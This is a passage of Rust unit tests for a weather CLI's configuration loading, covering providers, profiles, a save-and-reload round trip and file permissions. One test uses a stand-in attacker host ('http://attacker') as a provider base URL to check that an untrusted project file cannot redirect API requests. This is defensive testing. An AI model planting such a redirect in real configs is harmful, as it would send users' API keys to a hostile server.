+        assert_eq!(config.alerts.webhook, None);
+        assert!(matches!(
+            &config.providers[0],
+            ProviderUserInfo::WeatherApi { api_key, api_key_cmd: None, base_url: Some(url), .. }
+                if api_key == "user" && url == "http://proxy"
+        ));
+        assert!(matches!(
+            &config.providers[1],
+            ProviderUserInfo::OpenWeather { api_key, history_base_url: None, .. }
+                if api_key == "project"
+        ));
+
+        paths.profile = Some("work".into());
+        let config = Config::load(&paths).unwrap();
+        assert!(matches!(
+            config.providers.as_slice(),
+            [ProviderUserInfo::WeatherApi { base_url: Some(url), .. }, _] if url == "http://proxy"
+        ));
+
+        // the same file given with --config is trusted
+        paths.project_file = None;
+        let config = Config::load(&paths).unwrap();
+        assert!(matches!(
+            config.providers.as_slice(),
+            [ProviderUserInfo::WeatherApi { base_url: Some(url), .. }, _] if url == "http://attacker"
+        ));
+    }
+
+    #[test]
+    fn test_roundtrip() {
+        let dir = tempfile::tempdir().unwrap();
+        let mut paths = paths(dir.path(), &[CONFIG_FILE_NAME], None);
+        let info = ProviderUserInfo::OpenWeather {
+            api_key: "key".into(),
+            api_key_cmd: None,
+            base_url: Some("http://localhost:8080".into()),
+            history_base_url: None,
+            limits: Limits {
+                per_day: Some(1000),
+                ..Default::default()
+            },
+        };
+        let units = UnitSettings {
+            system: Some(UnitSystem::Imperial),
+            ..Default::default()
+        };
+        let network = NetworkSettings {
+            retries: Some(1),
+            ..Default::default()
+        };
+        Config::update(&paths, |config| {
+            config.set_provider(info.clone());
+            config.fallback = Some(true);
+            config.units = units;
+            config.cache_ttl = Some(60);
+            config.network = network;
+            Ok(())
+        })
+        .unwrap();
+        paths.profile = Some("work".into());
+        Config::update(&paths, |config| {
+            config.output = Some(OutputFormat::Csv);
+            Ok(())
+        })
+        .unwrap();
+        let read = Config::load(&paths).unwrap();
+        #[cfg(unix)]
+        let mode = {
+            use std::os::unix::fs::PermissionsExt;
+            std::fs::metadata(&paths.config_file)
+                .unwrap()
+                .permissions()
+                .mode()
+        };
+
+        #[cfg(unix)]
+        assert_eq!(mode & 0o777, 0o600);
+        assert!(matches!(
+            read.providers.as_slice(),
+            [ProviderUserInfo::OpenWeather { base_url: Some(url), .. }] if url == "http://localhost:8080"
+        ));
+        assert!(read.fallback());
+        assert_eq!(read.units, units);
+        assert_eq!(read.cache_ttl(), Duration::from_secs(60));
+        assert_eq!(read.network, network);
+        assert_eq!(read.providers[0].limits(), info.limits());
+        assert_eq!(read.output, Some(OutputFormat::Csv));
+    }
+}